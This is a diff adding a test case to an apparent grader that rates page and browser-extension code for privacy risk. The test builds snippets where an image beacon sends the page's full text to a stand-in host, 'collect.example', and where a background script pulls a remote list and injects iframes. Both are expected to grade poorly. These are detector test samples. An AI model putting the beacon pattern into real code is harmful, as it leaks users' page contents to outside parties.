@@ -222,6 +222,20 @@ it('a picture whose attributes are set from a table', async () => {
   expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
 });
 
+it('elements that a helper makes of a tag and a table of attributes', async () => {
+  const helper =
+    'const h = (tag, attributes) => { const el = document.createElement(tag); for (const k in attributes) el.setAttribute(k, attributes[k]); return el; };';
+  const content = (data: string): string =>
+    `${helper} document.body.append(h('img', { width: 1, src: 'https://collect.example/t.gif?k=' + ${data} }));`;
+  expect(await graded({ content: content('document.body.innerText') })).toMatch(/^[CDF]/);
+  expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
+  const background = (address: string): string =>
+    `${helper} setInterval(async () => { const list = await (await fetch('https://ads.example/list')).json(); document.body.append(h('iframe', { src: ${address}, width: 9 })); }, 9000);`;
+  const manifest = { manifest_version: 2, background: { scripts: ['background.js'] } };
+  expect(await graded({ background: background('list[0].url'), manifest })).toMatch(/^[CDF]/);
+  expect(await graded({ background: background("'frame.html?n=' + list.length"), manifest })).toMatch(/^A/);
+});
+
 it('steps that wait, as Babel has compiled them since 7.27', async () => {
   // Written as its helpers are called; what they do is no part of it.
   const layer = (name: string, params: string, steps: string): string =>
